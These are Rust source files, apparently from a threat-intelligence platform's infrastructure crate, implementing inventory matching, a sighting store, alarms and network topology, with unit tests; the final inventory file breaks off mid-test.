//! distinct word set `W` matches an installed name with token set `V`
//! iff `V ⊆ W` or `W ⊆ V`. Both directions fall out of one counting
//! pass — for every entry touched by a candidate token, the number of
//! shared tokens `|V ∩ W|` equals `|V|` exactly when `V ⊆ W`, and
//! equals `|W|` exactly when `W ⊆ V` (unknown candidate words keep the
//! count below `|W|`, so `W ⊆ V` can only fire when every candidate
//! word is a known token). Common keywords short-circuit to all nodes
//! before any token work, mirroring the paper's "common keyword → all
//! nodes" rule, and empty-word names/candidates reproduce the
//! reference matcher's exact-equality fallback.
//!
//! The index is built lazily by [`Inventory::index`] and invalidated by
//! the inventory's generation counter whenever the inventory mutates.

use std::collections::{HashMap, HashSet};

use crate::inventory::{ApplicationMatch, Inventory, NodeId};

/// A fixed-width bitset over the inventory's node slots.
///
/// Slot `i` is the `i`-th node in id order, so ascending bit iteration
/// yields node ids in ascending order — the same order the linear
/// matcher produces.
#[derive(Debug, Clone, Default, PartialEq, Eq)]
pub struct NodeBitset {
    bits: Vec<u64>,
}

impl NodeBitset {
    /// An empty bitset sized for `slots` nodes.
    pub fn with_slots(slots: usize) -> Self {
        NodeBitset {
            bits: vec![0; slots.div_ceil(64)],
        }
    }

    /// Sets one slot.
    pub fn set(&mut self, slot: usize) {
        self.bits[slot / 64] |= 1u64 << (slot % 64);
    }

    /// Unions another bitset into this one.
    pub fn union_with(&mut self, other: &NodeBitset) {
        for (dst, src) in self.bits.iter_mut().zip(&other.bits) {
            *dst |= src;
        }
    }

    /// Whether no slot is set.
    pub fn is_empty(&self) -> bool {
        self.bits.iter().all(|b| *b == 0)
    }

    /// Number of set slots.
    pub fn count(&self) -> usize {
        self.bits.iter().map(|b| b.count_ones() as usize).sum()
    }

    /// Ascending iterator over set slots.
    pub fn ones(&self) -> impl Iterator<Item = usize> + '_ {
        self.bits.iter().enumerate().flat_map(|(block, &bits)| {
            let mut bits = bits;
            std::iter::from_fn(move || {
                if bits == 0 {
                    return None;
                }
                let bit = bits.trailing_zeros() as usize;
                bits &= bits - 1;
                Some(block * 64 + bit)
            })
        })
    }
}

/// One distinct installed token set and the nodes carrying it.
#[derive(Debug, Clone)]
struct NameEntry {
    /// Number of distinct tokens in the installed name (`|V|`, ≥ 1).
    token_count: u32,
    /// Nodes that installed a name with exactly this token set.
    nodes: NodeBitset,
}

/// The precomputed match index over one inventory snapshot.
///
/// Built by [`Inventory::index`]; queries are equivalent to the linear
/// reference matcher (a property the `index_equivalence` integration
/// test proves over arbitrary inventories).
#[derive(Debug, Clone)]
pub struct MatchIndex {
    /// Bit slot → node id, ascending.
    slots: Vec<NodeId>,
    /// Interned token → dense token id.
    tokens: HashMap<String, u32>,
    /// Token id → name-entry ids containing that token (ascending).
    postings: Vec<Vec<u32>>,
    /// Distinct installed token sets.
    entries: Vec<NameEntry>,
    /// Nodes installing a name that normalizes to the empty string;
    /// these match exactly the empty-word candidates.
    empty_name_nodes: NodeBitset,
    /// Normalized common keywords (exact full-string match → all nodes).
    common_keywords: HashSet<String>,
    /// Every slot set; the common-keyword result.
    all_nodes: NodeBitset,
    /// Distinct normalized application names, sorted (OS excluded),
    /// for description scanning and [`Inventory::all_applications`].
    app_names: Vec<String>,
}

impl MatchIndex {
    /// Builds the index from an inventory snapshot.
    pub fn build(inventory: &Inventory) -> Self {
        let slots: Vec<NodeId> = inventory.nodes().map(|n| n.id).collect();
        let slot_count = slots.len();
        let mut all_nodes = NodeBitset::with_slots(slot_count);
        let mut empty_name_nodes = NodeBitset::with_slots(slot_count);
        let mut tokens: HashMap<String, u32> = HashMap::new();
        let mut postings: Vec<Vec<u32>> = Vec::new();
        let mut entries: Vec<NameEntry> = Vec::new();
        let mut entry_of_signature: HashMap<Vec<u32>, u32> = HashMap::new();
        let mut app_names: Vec<String> = Vec::new();

        for (slot, node) in inventory.nodes().enumerate() {
            all_nodes.set(slot);
            let installed = node
                .applications
                .iter()
                .map(|app| (app, true))
                .chain(std::iter::once((&node.operating_system, false)));
            for (name, is_application) in installed {
                let normalized = crate::inventory::normalize_name(name);
                if is_application {
                    app_names.push(normalized.clone());
                }
                let mut signature: Vec<u32> = normalized
                    .split_whitespace()
                    .map(|word| {
                        if let Some(&id) = tokens.get(word) {
                            return id;
                        }
                        let id = u32::try_from(postings.len()).expect("token count fits u32");
                        tokens.insert(word.to_owned(), id);
                        postings.push(Vec::new());
                        id
                    })
                    .collect();
                signature.sort_unstable();
                signature.dedup();
                if signature.is_empty() {
                    empty_name_nodes.set(slot);
                    continue;
                }
                let entry = *entry_of_signature
                    .entry(signature.clone())
                    .or_insert_with(|| {
                        let id = u32::try_from(entries.len()).expect("entry count fits u32");
                        for &token in &signature {
                            postings[token as usize].push(id);
                        }
                        entries.push(NameEntry {
                            token_count: u32::try_from(signature.len())
                                .expect("token set fits u32"),
                            nodes: NodeBitset::with_slots(slot_count),
                        });
                        id
                    });
                entries[entry as usize].nodes.set(slot);
            }
        }
        app_names.sort_unstable();
        app_names.dedup();

        let common_keywords = inventory
            .common_keywords()
            .iter()
            .map(|k| crate::inventory::normalize_name(k))
            .collect();

        MatchIndex {
            slots,
            tokens,
            postings,
            entries,
            empty_name_nodes,
            common_keywords,
            all_nodes,
            app_names,
        }
    }

    /// Number of distinct interned tokens.
    pub fn token_count(&self) -> usize {
        self.tokens.len()
    }

    /// Number of distinct installed token sets.
    pub fn name_count(&self) -> usize {
        self.entries.len()
    }

    /// Distinct normalized application names, sorted (OS names excluded).
    pub fn application_names(&self) -> &[String] {
        &self.app_names
    }

    /// Matches one candidate, implementing the paper's three-way rule:
    /// no match → empty; common keyword → all nodes; otherwise → the
    /// owning nodes.
    pub fn match_application(&self, candidate: &str) -> ApplicationMatch {
        let needle = candidate.trim().to_ascii_lowercase();
        if self.common_keywords.contains(&needle) {
            return ApplicationMatch::from_parts(self.slots.clone(), true);
        }
        let mut acc = NodeBitset::with_slots(self.slots.len());
        self.match_words_into(&needle, &mut acc);
        ApplicationMatch::from_parts(self.node_ids(&acc), false)
    }

    /// Matches several candidates at once, unioning the results.
    pub fn match_any<S: AsRef<str>>(&self, candidates: &[S]) -> ApplicationMatch {
        let mut acc = NodeBitset::with_slots(self.slots.len());
        let mut common = false;
        for candidate in candidates {
            let needle = candidate.as_ref().trim().to_ascii_lowercase();
            if self.common_keywords.contains(&needle) {
                common = true;
                acc.union_with(&self.all_nodes);
            } else {
                self.match_words_into(&needle, &mut acc);
            }
        }
        ApplicationMatch::from_parts(self.node_ids(&acc), common)
    }

    /// Unions every node whose installed token set `V` satisfies
    /// `V ⊆ W ∨ W ⊆ V` against the candidate's distinct word set `W`.
    fn match_words_into(&self, needle: &str, acc: &mut NodeBitset) {
        let mut words: Vec<&str> = needle.split_whitespace().collect();
        words.sort_unstable();
        words.dedup();
        if words.is_empty() {
            // The reference matcher's `a == b` fallback: an empty-word
            // candidate matches exactly the empty-word installed names.
            acc.union_with(&self.empty_name_nodes);
            return;
        }
        let total = u32::try_from(words.len()).expect("candidate words fit u32");
        let mut shared: HashMap<u32, u32> = HashMap::new();
        for word in words {
            if let Some(&token) = self.tokens.get(word) {
                for &entry in &self.postings[token as usize] {
                    *shared.entry(entry).or_insert(0) += 1;
                }
            }
        }
        for (&entry, &count) in &shared {
            let entry = &self.entries[entry as usize];
            if count == entry.token_count || count == total {
                acc.union_with(&entry.nodes);
            }
        }
    }

    /// Materializes a bitset as ascending node ids.
    fn node_ids(&self, acc: &NodeBitset) -> Vec<NodeId> {
        acc.ones().map(|slot| self.slots[slot]).collect()
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn bitset_roundtrip() {
        let mut b = NodeBitset::with_slots(130);
        assert!(b.is_empty());
        for slot in [0, 63, 64, 129] {
            b.set(slot);
        }
        assert_eq!(b.ones().collect::<Vec<_>>(), vec![0, 63, 64, 129]);
        assert_eq!(b.count(), 4);
        let mut other = NodeBitset::with_slots(130);
        other.set(5);
        b.union_with(&other);
        assert_eq!(b.count(), 5);
    }

    #[test]
    fn index_matches_paper_table3() {
        let inventory = Inventory::paper_table3();
        let index = MatchIndex::build(&inventory);
        // "apache" ⊆ {"apache","storm"} etc. only on node 4.
        assert_eq!(index.match_application("apache").node_ids(), &[NodeId(4)]);
        // Both directions: "apache struts" matches installed "apache".
        assert_eq!(
            index.match_application("Apache Struts").node_ids(),
            &[NodeId(4)]
        );
        let linux = index.match_application("Linux");
        assert!(linux.is_common_keyword());
        assert_eq!(linux.node_ids().len(), 4);
        assert!(!index.match_application("notepad").is_match());
        assert_eq!(index.match_application("ubuntu").node_ids().len(), 3);
    }

    #[test]
    fn shared_token_sets_collapse_into_one_entry() {
        let inventory = Inventory::paper_table3();
        let index = MatchIndex::build(&inventory);
        // "ubuntu" is installed on three nodes and is also an OS name;
        // the token set exists once, carried by a three-node bitset.
        assert!(index.name_count() < 20);
        assert!(index.token_count() >= 10);
    }

    #[test]
    fn application_names_exclude_operating_systems() {
        let mut builder = Inventory::builder();
        builder
            .node("host", crate::inventory::NodeType::Server, "freebsd")
            .application("nginx");
        let inventory = builder.build();
        let index = MatchIndex::build(&inventory);
        assert_eq!(index.application_names(), &["nginx".to_owned()]);
        // …but the OS still matches as an installed name.
        assert_eq!(index.match_application("freebsd").node_ids().len(), 1);
    }
}
