//! The internal sighting store.
//!
//! The heuristic engine's Accuracy criterion compares "OSINT data … to
//! the information coming from the infrastructure to identify if there
//! is a match", and its Timeliness criterion asks whether "a detected
//! event is related to an already detected one" (Section III-B2b). The
//! sighting store is the infrastructure-side memory both criteria
//! consult: every observable the sensors report is recorded here with
//! its timestamps.

use std::collections::HashMap;

use cais_common::{Observable, Timestamp};
use parking_lot::RwLock;
use serde::{Deserialize, Serialize};

use crate::inventory::NodeId;

/// One recorded sighting of an observable inside the infrastructure.
#[derive(Debug, Clone, PartialEq, Serialize, Deserialize)]
pub struct SightingRecord {
    /// When the observable was seen.
    pub seen_at: Timestamp,
    /// The node that saw it, when attributable.
    pub node: Option<NodeId>,
    /// The sensor that reported it.
    pub reported_by: String,
}

/// Thread-safe store of internally-sighted observables.
#[derive(Debug, Default)]
pub struct SightingStore {
    by_key: RwLock<HashMap<String, Vec<SightingRecord>>>,
}

impl SightingStore {
    /// Creates an empty store.
    pub fn new() -> Self {
        SightingStore::default()
    }

    /// Records a sighting.
    pub fn record(
        &self,
        observable: &Observable,
        seen_at: Timestamp,
        node: Option<NodeId>,
        reported_by: impl Into<String>,
    ) {
        self.by_key
            .write()
            .entry(observable.dedup_key())
            .or_default()
            .push(SightingRecord {
                seen_at,
                node,
                reported_by: reported_by.into(),
            });
    }

    /// All sightings of an observable, oldest first.
    pub fn sightings_of(&self, observable: &Observable) -> Vec<SightingRecord> {
        let mut records = self
            .by_key
            .read()
            .get(&observable.dedup_key())
            .cloned()
            .unwrap_or_default();
        records.sort_by_key(|r| r.seen_at);
        records
    }

    /// Whether the observable has ever been seen internally.
    pub fn has_seen(&self, observable: &Observable) -> bool {
        self.by_key.read().contains_key(&observable.dedup_key())
    }

    /// The most recent sighting timestamp, if any.
    pub fn last_seen(&self, observable: &Observable) -> Option<Timestamp> {
        self.by_key
            .read()
            .get(&observable.dedup_key())
            .and_then(|records| records.iter().map(|r| r.seen_at).max())
    }

    /// Number of distinct observables on record.
    pub fn distinct_observables(&self) -> usize {
        self.by_key.read().len()
    }

    /// Total sightings across all observables.
    pub fn total_sightings(&self) -> usize {
        self.by_key.read().values().map(Vec::len).sum()
    }
}

#[cfg(test)]
mod tests {
    use super::*;
    use cais_common::ObservableKind;

    fn ip(value: &str) -> Observable {
        Observable::new(ObservableKind::Ipv4, value)
    }

    #[test]
    fn record_and_query() {
        let store = SightingStore::new();
        let c2 = ip("203.0.113.9");
        assert!(!store.has_seen(&c2));
        store.record(
            &c2,
            Timestamp::from_unix_secs(100),
            Some(NodeId(4)),
            "suricata",
        );
        store.record(&c2, Timestamp::from_unix_secs(50), None, "snort");
        assert!(store.has_seen(&c2));
        assert_eq!(store.last_seen(&c2), Some(Timestamp::from_unix_secs(100)));
        let records = store.sightings_of(&c2);
        assert_eq!(records.len(), 2);
        assert!(records[0].seen_at <= records[1].seen_at);
    }

    #[test]
    fn distinct_vs_total() {
        let store = SightingStore::new();
        store.record(&ip("1.1.1.1"), Timestamp::EPOCH, None, "snort");
        store.record(&ip("1.1.1.1"), Timestamp::EPOCH, None, "snort");
        store.record(&ip("2.2.2.2"), Timestamp::EPOCH, None, "ossec");
        assert_eq!(store.distinct_observables(), 2);
        assert_eq!(store.total_sightings(), 3);
    }

    #[test]
    fn unknown_observable_queries() {
        let store = SightingStore::new();
        assert!(store.sightings_of(&ip("9.9.9.9")).is_empty());
        assert_eq!(store.last_seen(&ip("9.9.9.9")), None);
    }

    #[test]
    fn concurrent_recording() {
        use std::sync::Arc;
        let store = Arc::new(SightingStore::new());
        let mut handles = Vec::new();
        for t in 0..4 {
            let store = Arc::clone(&store);
            handles.push(std::thread::spawn(move || {
                for i in 0..100 {
                    store.record(
                        &ip(&format!("10.0.{t}.{i}")),
                        Timestamp::from_unix_secs(i),
                        None,
                        "gen",
                    );
                }
            }));
        }
        for h in handles {
            h.join().unwrap();
        }
        assert_eq!(store.distinct_observables(), 400);
    }
}
