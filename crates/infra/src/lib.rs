//! # cais-infra
//!
//! The monitored infrastructure: system inventory (the paper's Table
//! III), network topology, alarms, sensor simulators (NIDS/HIDS in the
//! style of Snort/Suricata/OSSEC) and the internal sighting store the
//! heuristic engine correlates OSINT data against.
//!
//! The paper's Infrastructure Data Collector "obtains information
//! related to the monitored infrastructure that could lead to internal
//! indicators of compromise (e.g., hashes, signatures, IPs, domains,
//! URLs)" and gathers "installed applications, operating systems, …
//! vulnerabilities" to contrast against external data (Section III-A2).
//!
//! # Examples
//!
//! ```
//! use cais_infra::inventory::Inventory;
//!
//! let inventory = Inventory::paper_table3();
//! // "apache" matches only node 4 (the XL-SIEM server)…
//! let hit = inventory.match_application("apache");
//! assert_eq!(hit.node_ids().len(), 1);
//! // …while the common keyword "linux" matches every node.
//! let common = inventory.match_application("linux");
//! assert!(common.is_common_keyword());
//! assert_eq!(common.node_ids().len(), 4);
//! ```

#![forbid(unsafe_code)]
#![warn(missing_docs)]

pub mod alarm;
pub mod index;
pub mod inventory;
pub mod sensors;
pub mod sightings;
pub mod topology;

pub use alarm::{Alarm, AlarmSeverity};
pub use index::MatchIndex;
pub use inventory::{ApplicationMatch, Inventory, Node, NodeId, NodeType};
pub use sightings::SightingStore;
pub use topology::{LinkKind, Topology};
