//! Alarms raised by the monitored infrastructure.
//!
//! The dashboard shows, per node, "a circle indicating the number and
//! severity of the alarms (in colors green, yellow and red)" and each
//! alarm carries "the number of issues, IP source and destination, as
//! well as a brief description of the issue" (Section III-C1).

use cais_common::Timestamp;
use serde::{Deserialize, Serialize};

use crate::inventory::NodeId;

/// Alarm severity, rendered green/yellow/red on the dashboard.
#[derive(Debug, Clone, Copy, PartialEq, Eq, PartialOrd, Ord, Hash, Serialize, Deserialize)]
#[serde(rename_all = "snake_case")]
pub enum AlarmSeverity {
    /// Informational (green).
    Low,
    /// Suspicious (yellow).
    Medium,
    /// Critical (red).
    High,
}

impl AlarmSeverity {
    /// The dashboard color for this severity.
    pub fn color(self) -> &'static str {
        match self {
            AlarmSeverity::Low => "green",
            AlarmSeverity::Medium => "yellow",
            AlarmSeverity::High => "red",
        }
    }
}

/// One alarm raised against a node.
#[derive(Debug, Clone, PartialEq, Serialize, Deserialize)]
pub struct Alarm {
    /// Sequential identifier within the run.
    pub id: u64,
    /// The node the alarm concerns.
    pub node: NodeId,
    /// How serious the alarm is.
    pub severity: AlarmSeverity,
    /// Source IP of the triggering traffic/activity.
    pub source_ip: String,
    /// Destination IP.
    pub destination_ip: String,
    /// Brief description of the issue.
    pub description: String,
    /// The sensor that raised it (`snort`, `suricata`, `ossec`, …).
    pub raised_by: String,
    /// The application involved, when known — matched against IoCs by
    /// the heuristic engine's `vuln_app_in_alarm` feature.
    #[serde(skip_serializing_if = "Option::is_none")]
    pub application: Option<String>,
    /// When the alarm fired.
    pub raised_at: Timestamp,
}

impl Alarm {
    /// Creates an alarm with the required fields.
    #[allow(clippy::too_many_arguments)] // mirrors the alarm's wire shape
    pub fn new(
        id: u64,
        node: NodeId,
        severity: AlarmSeverity,
        source_ip: impl Into<String>,
        destination_ip: impl Into<String>,
        description: impl Into<String>,
        raised_by: impl Into<String>,
        raised_at: Timestamp,
    ) -> Self {
        Alarm {
            id,
            node,
            severity,
            source_ip: source_ip.into(),
            destination_ip: destination_ip.into(),
            description: description.into(),
            raised_by: raised_by.into(),
            application: None,
            raised_at,
        }
    }

    /// Sets the involved application, builder-style.
    pub fn with_application(mut self, application: impl Into<String>) -> Self {
        self.application = Some(application.into().to_ascii_lowercase());
        self
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn severity_colors_match_paper() {
        assert_eq!(AlarmSeverity::Low.color(), "green");
        assert_eq!(AlarmSeverity::Medium.color(), "yellow");
        assert_eq!(AlarmSeverity::High.color(), "red");
    }

    #[test]
    fn severity_is_ordered() {
        assert!(AlarmSeverity::Low < AlarmSeverity::Medium);
        assert!(AlarmSeverity::Medium < AlarmSeverity::High);
    }

    #[test]
    fn serde_roundtrip() {
        let alarm = Alarm::new(
            1,
            NodeId(4),
            AlarmSeverity::High,
            "203.0.113.9",
            "192.168.1.14",
            "struts exploitation attempt",
            "suricata",
            Timestamp::EPOCH,
        )
        .with_application("Apache Struts");
        assert_eq!(alarm.application.as_deref(), Some("apache struts"));
        let json = serde_json::to_string(&alarm).unwrap();
        let back: Alarm = serde_json::from_str(&json).unwrap();
        assert_eq!(back, alarm);
    }
}
