//! Network topology over inventory nodes.
//!
//! The dashboard "provides a graphical representation of the
//! infrastructure topology" (Section III-C1); this module is the graph
//! it renders.

use serde::{Deserialize, Serialize};

use crate::inventory::{Inventory, NodeId};

/// The kind of a link between two nodes.
#[derive(Debug, Clone, Copy, PartialEq, Eq, Hash, Serialize, Deserialize)]
#[serde(rename_all = "kebab-case")]
pub enum LinkKind {
    /// Local-area network segment.
    Lan,
    /// Wide-area / internet-facing connection.
    Wan,
}

/// An undirected link between two nodes.
#[derive(Debug, Clone, Copy, PartialEq, Eq, Hash, Serialize, Deserialize)]
pub struct Link {
    /// One endpoint.
    pub a: NodeId,
    /// The other endpoint.
    pub b: NodeId,
    /// The network kind.
    pub kind: LinkKind,
}

/// The infrastructure network graph.
#[derive(Debug, Clone, PartialEq, Serialize, Deserialize, Default)]
pub struct Topology {
    links: Vec<Link>,
}

impl Topology {
    /// Creates an empty topology.
    pub fn new() -> Self {
        Topology::default()
    }

    /// Derives a topology from an inventory: nodes sharing a named
    /// network are pairwise linked (LAN segments become cliques, which
    /// is how small flat networks actually look).
    ///
    /// # Examples
    ///
    /// ```
    /// use cais_infra::{inventory::Inventory, Topology};
    ///
    /// let topology = Topology::from_inventory(&Inventory::paper_table3());
    /// // Four nodes on one LAN → 6 pairwise links.
    /// assert_eq!(topology.links().len(), 6);
    /// ```
    pub fn from_inventory(inventory: &Inventory) -> Self {
        let mut topology = Topology::new();
        let nodes: Vec<_> = inventory.nodes().collect();
        for (i, a) in nodes.iter().enumerate() {
            for b in nodes.iter().skip(i + 1) {
                let shared = a.networks.iter().find(|n| b.networks.contains(n));
                if let Some(network) = shared {
                    let kind = if network.eq_ignore_ascii_case("wan") {
                        LinkKind::Wan
                    } else {
                        LinkKind::Lan
                    };
                    topology.add_link(a.id, b.id, kind);
                }
            }
        }
        topology
    }

    /// Adds a link (idempotent; `a`/`b` order does not matter).
    pub fn add_link(&mut self, a: NodeId, b: NodeId, kind: LinkKind) {
        if a == b || self.are_linked(a, b) {
            return;
        }
        self.links.push(Link { a, b, kind });
    }

    /// All links.
    pub fn links(&self) -> &[Link] {
        &self.links
    }

    /// Whether two nodes are directly linked.
    pub fn are_linked(&self, a: NodeId, b: NodeId) -> bool {
        self.links
            .iter()
            .any(|l| (l.a == a && l.b == b) || (l.a == b && l.b == a))
    }

    /// The direct neighbors of a node.
    pub fn neighbors(&self, node: NodeId) -> Vec<NodeId> {
        let mut out: Vec<NodeId> = self
            .links
            .iter()
            .filter_map(|l| {
                if l.a == node {
                    Some(l.b)
                } else if l.b == node {
                    Some(l.a)
                } else {
                    None
                }
            })
            .collect();
        out.sort_unstable();
        out.dedup();
        out
    }
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::inventory::Inventory;

    #[test]
    fn clique_from_shared_lan() {
        let topology = Topology::from_inventory(&Inventory::paper_table3());
        assert_eq!(topology.links().len(), 6);
        assert!(topology.are_linked(NodeId(1), NodeId(4)));
        assert_eq!(topology.neighbors(NodeId(2)).len(), 3);
    }

    #[test]
    fn add_link_is_idempotent_and_rejects_self_loops() {
        let mut t = Topology::new();
        t.add_link(NodeId(1), NodeId(2), LinkKind::Lan);
        t.add_link(NodeId(2), NodeId(1), LinkKind::Lan);
        t.add_link(NodeId(1), NodeId(1), LinkKind::Lan);
        assert_eq!(t.links().len(), 1);
    }

    #[test]
    fn neighbors_of_isolated_node_empty() {
        let t = Topology::new();
        assert!(t.neighbors(NodeId(9)).is_empty());
    }
}
