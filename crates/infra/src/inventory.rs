//! The system inventory: nodes, their installed applications and
//! operating systems.
//!
//! The paper's reduction step requires "a system inventory containing
//! the nodes, and their installed applications … to perform the match"
//! (Section III-C1), and the use case pins the exact inventory in Table
//! III, including the rule that "if the match is with a common keyword
//! (e.g., Linux), the new rIoC is associated with all nodes".

use std::collections::BTreeMap;
use std::fmt;

use serde::{Deserialize, Serialize};

/// A stable node identifier within an inventory.
#[derive(Debug, Clone, Copy, PartialEq, Eq, PartialOrd, Ord, Hash, Serialize, Deserialize)]
pub struct NodeId(pub u32);

impl fmt::Display for NodeId {
    fn fmt(&self, f: &mut fmt::Formatter<'_>) -> fmt::Result {
        write!(f, "node-{}", self.0)
    }
}

/// The role of a node, shown in the dashboard's node-details tab.
#[derive(Debug, Clone, Copy, PartialEq, Eq, Hash, Serialize, Deserialize)]
#[serde(rename_all = "kebab-case")]
pub enum NodeType {
    /// A server machine.
    Server,
    /// An end-user workstation.
    Workstation,
}

/// One machine in the monitored infrastructure.
#[derive(Debug, Clone, PartialEq, Serialize, Deserialize)]
pub struct Node {
    /// Stable identifier.
    pub id: NodeId,
    /// Display name (for example `OwnCloud` or `XL-SIEM`).
    pub name: String,
    /// Server or workstation.
    pub node_type: NodeType,
    /// Installed applications, lowercase.
    pub applications: Vec<String>,
    /// Operating system, lowercase.
    pub operating_system: String,
    /// IPv4 addresses assigned to the node.
    pub ip_addresses: Vec<String>,
    /// Networks the node is connected to (`LAN`, `WAN`, …).
    pub networks: Vec<String>,
}

impl Node {
    /// Whether the node has the application installed.
    ///
    /// Matching is case-insensitive and word-based in both directions:
    /// the paper's use case matches the IoC's "Apache Struts" against
    /// node 4's installed "apache" — the inventory name's words must be
    /// a subset of the candidate's words or vice versa. The node's
    /// operating system counts as an installed application.
    pub fn has_application(&self, application: &str) -> bool {
        let needle = application.to_ascii_lowercase();
        self.applications
            .iter()
            .chain(std::iter::once(&self.operating_system))
            .any(|installed| words_overlap(installed, &needle))
    }
}

/// Whether one name's words are a subset of the other's.
fn words_overlap(a: &str, b: &str) -> bool {
    if a == b {
        return true;
    }
    let a_words: Vec<&str> = a.split_whitespace().collect();
    let b_words: Vec<&str> = b.split_whitespace().collect();
    if a_words.is_empty() || b_words.is_empty() {
        return false;
    }
    a_words.iter().all(|w| b_words.contains(w)) || b_words.iter().all(|w| a_words.contains(w))
}

/// The result of matching an application/keyword against the inventory.
#[derive(Debug, Clone, PartialEq, Eq, Serialize, Deserialize)]
pub struct ApplicationMatch {
    node_ids: Vec<NodeId>,
    common_keyword: bool,
}

impl ApplicationMatch {
    /// Nodes the application matched (all nodes for a common keyword).
    pub fn node_ids(&self) -> &[NodeId] {
        &self.node_ids
    }

    /// Whether the match was via a common keyword such as `linux`.
    pub fn is_common_keyword(&self) -> bool {
        self.common_keyword
    }

    /// Whether anything matched at all.
    pub fn is_match(&self) -> bool {
        !self.node_ids.is_empty()
    }
}

/// The inventory of the monitored infrastructure.
///
/// Construct with [`Inventory::builder`] or use the paper's Table III
/// fixture via [`Inventory::paper_table3`].
#[derive(Debug, Clone, PartialEq, Serialize, Deserialize, Default)]
pub struct Inventory {
    nodes: BTreeMap<NodeId, Node>,
    /// Keywords that match *all* nodes (Table III's "All Nodes: linux").
    common_keywords: Vec<String>,
}

impl Inventory {
    /// Starts building an inventory.
    pub fn builder() -> InventoryBuilder {
        InventoryBuilder {
            inventory: Inventory::default(),
            next_id: 1,
        }
    }

    /// The inventory of the paper's Table III: four nodes (OwnCloud,
    /// GitLab and two XL-SIEM machines) plus the common keyword `linux`.
    pub fn paper_table3() -> Self {
        let mut builder = Inventory::builder();
        builder
            .node("OwnCloud", NodeType::Server, "ubuntu")
            .applications(&[
                "ubuntu", "owncloud", "ossec", "snort", "suricata", "nids", "hids",
            ])
            .ip("192.168.1.11")
            .network("LAN");
        builder
            .node("GitLab", NodeType::Server, "ubuntu")
            .applications(&[
                "ubuntu", "gitlab", "ossec", "snort", "suricata", "nids", "hids",
            ])
            .ip("192.168.1.12")
            .network("LAN");
        builder
            .node("XL-SIEM", NodeType::Server, "ubuntu")
            .applications(&["ubuntu", "snort", "suricata", "nids", "php"])
            .ip("192.168.1.13")
            .network("LAN");
        builder
            .node("XL-SIEM", NodeType::Server, "debian")
            .applications(&[
                "debian",
                "apache",
                "apache storm",
                "apache zookeeper",
                "server",
            ])
            .ip("192.168.1.14")
            .network("LAN")
            .network("WAN");
        builder.common_keyword("linux");
        builder.build()
    }

    /// All nodes, ordered by id.
    pub fn nodes(&self) -> impl Iterator<Item = &Node> {
        self.nodes.values()
    }

    /// Number of nodes.
    pub fn len(&self) -> usize {
        self.nodes.len()
    }

    /// Whether the inventory has no nodes.
    pub fn is_empty(&self) -> bool {
        self.nodes.is_empty()
    }

    /// Looks up a node.
    pub fn node(&self, id: NodeId) -> Option<&Node> {
        self.nodes.get(&id)
    }

    /// Finds the node owning an IP address.
    pub fn node_by_ip(&self, ip: &str) -> Option<&Node> {
        self.nodes
            .values()
            .find(|n| n.ip_addresses.iter().any(|a| a == ip))
    }

    /// The configured common keywords.
    pub fn common_keywords(&self) -> &[String] {
        &self.common_keywords
    }

    /// Matches an application or keyword against the inventory,
    /// implementing the paper's three-way rule: no match → empty;
    /// common keyword → all nodes; otherwise → the owning nodes.
    pub fn match_application(&self, application: &str) -> ApplicationMatch {
        let needle = application.trim().to_ascii_lowercase();
        if self.common_keywords.contains(&needle) {
            return ApplicationMatch {
                node_ids: self.nodes.keys().copied().collect(),
                common_keyword: true,
            };
        }
        let node_ids: Vec<NodeId> = self
            .nodes
            .values()
            .filter(|n| n.has_application(&needle))
            .map(|n| n.id)
            .collect();
        ApplicationMatch {
            node_ids,
            common_keyword: false,
        }
    }

    /// Matches several candidate names at once, unioning the results
    /// (used when an IoC lists multiple affected applications/OSes).
    pub fn match_any(&self, candidates: &[String]) -> ApplicationMatch {
        let mut node_ids: Vec<NodeId> = Vec::new();
        let mut common = false;
        for candidate in candidates {
            let m = self.match_application(candidate);
            common |= m.is_common_keyword();
            for id in m.node_ids() {
                if !node_ids.contains(id) {
                    node_ids.push(*id);
                }
            }
        }
        node_ids.sort_unstable();
        ApplicationMatch {
            node_ids,
            common_keyword: common,
        }
    }

    /// Every distinct application name installed anywhere.
    pub fn all_applications(&self) -> Vec<&str> {
        let mut apps: Vec<&str> = self
            .nodes
            .values()
            .flat_map(|n| n.applications.iter().map(String::as_str))
            .collect();
        apps.sort_unstable();
        apps.dedup();
        apps
    }
}

/// Builder for [`Inventory`].
#[derive(Debug)]
pub struct InventoryBuilder {
    inventory: Inventory,
    next_id: u32,
}

impl InventoryBuilder {
    /// Adds a node, returning a scoped builder for its details.
    pub fn node(
        &mut self,
        name: impl Into<String>,
        node_type: NodeType,
        operating_system: impl Into<String>,
    ) -> NodeBuilder<'_> {
        let id = NodeId(self.next_id);
        self.next_id += 1;
        self.inventory.nodes.insert(
            id,
            Node {
                id,
                name: name.into(),
                node_type,
                applications: Vec::new(),
                operating_system: operating_system.into().to_ascii_lowercase(),
                ip_addresses: Vec::new(),
                networks: Vec::new(),
            },
        );
        NodeBuilder {
            node: self.inventory.nodes.get_mut(&id).expect("just inserted"),
        }
    }

    /// Registers a keyword that matches every node.
    pub fn common_keyword(&mut self, keyword: impl Into<String>) -> &mut Self {
        self.inventory
            .common_keywords
            .push(keyword.into().to_ascii_lowercase());
        self
    }

    /// Finishes the inventory.
    pub fn build(self) -> Inventory {
        self.inventory
    }
}

/// Scoped builder configuring one node.
#[derive(Debug)]
pub struct NodeBuilder<'a> {
    node: &'a mut Node,
}

impl NodeBuilder<'_> {
    /// Adds one installed application.
    pub fn application(&mut self, application: impl Into<String>) -> &mut Self {
        self.node
            .applications
            .push(application.into().to_ascii_lowercase());
        self
    }

    /// Adds several installed applications.
    pub fn applications(&mut self, applications: &[&str]) -> &mut Self {
        for app in applications {
            self.application(*app);
        }
        self
    }

    /// Adds an IP address.
    pub fn ip(&mut self, ip: impl Into<String>) -> &mut Self {
        self.node.ip_addresses.push(ip.into());
        self
    }

    /// Adds a connected network.
    pub fn network(&mut self, network: impl Into<String>) -> &mut Self {
        self.node.networks.push(network.into());
        self
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn table3_shape() {
        let inv = Inventory::paper_table3();
        assert_eq!(inv.len(), 4);
        let names: Vec<&str> = inv.nodes().map(|n| n.name.as_str()).collect();
        assert_eq!(names, vec!["OwnCloud", "GitLab", "XL-SIEM", "XL-SIEM"]);
